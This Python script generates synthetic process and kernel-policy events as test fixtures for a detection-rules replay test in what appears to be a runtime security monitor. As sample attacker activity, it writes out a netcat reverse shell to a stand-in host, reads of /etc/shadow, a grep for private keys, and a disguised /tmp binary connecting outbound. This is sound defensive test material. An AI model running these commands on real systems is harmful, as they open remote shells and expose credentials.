#!/usr/bin/env python3
"""Writes replay_events.jsonl: hand-made events in Vigil's JSON line format
(protobuf JSON, snake_case), shaped like vigild's process_exec / process_lsm
output. Used by tests/unit/rules_replay_test.cc and the docs' examples.
Run: python3 rules/testdata/gen_replay_events.py > rules/testdata/replay_events.jsonl"""
import copy
import json

n = 0


def t():
    global n
    n += 1
    return "2026-11-23T18:%02d:%02d.123456789Z" % (40 + n // 60, n % 60)


def proc(pid, comm, binary, args="", uid=0, ppid=1, cwd="/", user=None, tty=None,
         container=None, auid=4294967295):
    p = {"exec_id": "d2ViLTE6MTIzOjE%d" % pid, "pid": pid, "tid": pid, "uid": uid, "euid": uid,
         "gid": uid, "egid": uid, "auid": auid, "binary": binary, "cwd": cwd, "comm": comm,
         "ppid": ppid, "flags": "execve", "start_time": "2026-11-23T18:00:00.000000000Z"}
    if args:
        p["arguments"] = args
    if user:
        p["user_name"] = user
    if tty:
        p["tty"] = tty
    if container:
        p["container"] = container
    return copy.deepcopy(p)


systemd = proc(1, "systemd", "/usr/lib/systemd/systemd", "--system --deserialize=31", ppid=0, user="root")
nginx_master = proc(810, "nginx", "/usr/sbin/nginx", "-g daemon on; master_process on;", user="root")
nginx_worker = proc(812, "nginx", "/usr/sbin/nginx", "-g daemon on; master_process on;", uid=33,
                    ppid=810, user="www-data")
sshd = proc(700, "sshd", "/usr/sbin/sshd", "-D", user="root")
sshd_sess = proc(1500, "sshd", "/usr/sbin/sshd", "-D -R", ppid=700, user="root")
alice_bash = proc(1510, "bash", "/usr/bin/bash", "", uid=1000, ppid=1500, cwd="/home/alice",
                  user="alice", tty="pts/0", auid=1000)
ctr = {"id": "4f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a1f",
       "runtime": "containerd", "name": "shop-web-7d9f", "image": "registry.example.com/shop/web:2.4.1"}
shim = proc(2990, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "-namespace k8s.io -id 4f2a9c1e",
            user="root")
runc_parent = proc(2995, "runc:[0:PARENT]", "/usr/bin/runc", "exec -t 4f2a9c1e bash", ppid=2990)
app = proc(3000, "node", "/usr/local/bin/node", "server.js", ppid=2990, container=ctr, user="root")

events = []


def E(kind, body):
    events.append({kind: body, "node_name": "web-1", "time": t(), "schema_version": 1})


def lsm(p, parent, policy, hook, action, outcome, mode, path=None, errno=0, args=None):
    b = {"process": p, "policy_name": policy, "hook": hook, "action": action, "outcome": outcome,
         "mode": mode, "mechanism": "bpf_lsm"}
    if parent:
        b["parent"] = parent
    if path:
        b["path"] = path
    if errno:
        b["return_errno"] = errno
    if args:
        b["args"] = args
    return b


# 1. a shell spawned by the web server                      -> Run shell untrusted
E("process_exec", {"process": proc(4242, "bash", "/usr/bin/bash", "-c \"id; uname -a\"", uid=33, ppid=812,
                                   cwd="/var/www/html", user="www-data"),
                   "parent": nginx_worker, "ancestors": [nginx_master, systemd]})
# 2. an interactive login shell                             -> nothing
E("process_exec", {"process": alice_bash, "parent": sshd_sess, "ancestors": [sshd, systemd]})
# 3. cat reads /etc/shadow, seen by a monitor-mode policy   -> Sensitive file opened by untrusted program
E("process_lsm", lsm(proc(4300, "cat", "/usr/bin/cat", "/etc/shadow", ppid=1510, cwd="/home/alice", user="root",
                          tty="pts/0", auid=1000), alice_bash, "watch-sensitive-files", "file_open",
                     "ACTION_POST", "OUTCOME_POSTED", "POLICY_MODE_MONITOR", path="/etc/shadow"))
# 4. passwd reads /etc/shadow                               -> nothing (expected reader)
E("process_lsm", lsm(proc(4310, "passwd", "/usr/bin/passwd", ppid=1510, user="root", auid=1000), alice_bash,
                     "watch-sensitive-files", "file_open", "ACTION_POST", "OUTCOME_POSTED", "POLICY_MODE_MONITOR",
                     path="/etc/shadow"))
# 5. python3 under nginx, denied by an enforcing policy     -> Sensitive file..., Kernel policy denied...
E("process_lsm", lsm(proc(4320, "python3", "/usr/bin/python3.11", "-c open('/etc/shadow')", uid=33, ppid=812,
                          cwd="/var/www/html", user="www-data"), nginx_worker, "protect-shadow", "file_open",
                     "ACTION_OVERRIDE", "OUTCOME_DENIED", "POLICY_MODE_ENFORCE", path="/etc/shadow", errno=1))
# 6. outbound connection from an unexpected binary          -> Outbound connection from unexpected binary
kworkerd = proc(4400, "kworkerd", "/tmp/.cache/kworkerd", uid=33, ppid=4242, cwd="/tmp/.cache", user="www-data")
E("process_lsm", lsm(kworkerd, None, "watch-connect", "socket_connect", "ACTION_POST", "OUTCOME_POSTED",
                     "POLICY_MODE_MONITOR", args=[{"label": "sock", "sock_arg": "tcp 10.0.2.15:51234 -> 203.0.113.9:4444"}]))
# 7. curl to a public address, kworkerd to a private one    -> nothing
E("process_lsm", lsm(proc(4410, "curl", "/usr/bin/curl", "-fsS https://deb.example.org/", uid=1000, ppid=1510,
                          user="alice", auid=1000), alice_bash, "watch-connect", "socket_connect", "ACTION_POST",
                     "OUTCOME_POSTED", "POLICY_MODE_MONITOR",
                     args=[{"label": "sock", "sock_arg": "tcp 10.0.2.15:51300 -> 93.184.216.34:443"}]))
E("process_lsm", lsm(kworkerd, None, "watch-connect", "socket_connect", "ACTION_POST", "OUTCOME_POSTED",
                     "POLICY_MODE_MONITOR", args=[{"label": "sock", "sock_arg": "tcp 10.0.2.15:51310 -> 10.0.0.7:5432"}]))
# 8. grep for private keys                                  -> Search Private Keys or Passwords
E("process_exec", {"process": proc(4500, "grep", "/usr/bin/grep", "-r \"BEGIN RSA PRIVATE\" /home", uid=1000,
                                   ppid=1510, user="alice", tty="pts/0", auid=1000),
                   "parent": alice_bash, "ancestors": [sshd_sess, sshd, systemd]})
# 9. netcat with -e in a container                          -> Netcat Remote Code Execution in Container
E("process_exec", {"process": proc(5100, "nc", "/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444", ppid=5000,
                                   container=ctr, user="root"),
                   "parent": proc(5000, "sh", "/bin/sh", "-c nc", ppid=3000, container=ctr),
                   "ancestors": [app, shim, systemd]})
# 10. kubectl exec -it ... bash                             -> Terminal shell in container
E("process_exec", {"process": proc(5200, "bash", "/bin/bash", ppid=2995, container=ctr, user="root", tty="pts/1"),
                   "parent": runc_parent, "ancestors": [shim, systemd]})
# 11. exit and status events are not rule input             -> nothing
E("process_exit", {"process": proc(4242, "bash", "/usr/bin/bash", "-c id", uid=33, ppid=812),
                   "parent": nginx_worker, "status": 0})
E("status", {"kind": "KIND_POLICY_LOADED", "subject": "watch-connect"})

for e in events:
    print(json.dumps(e, separators=(",", ":")))
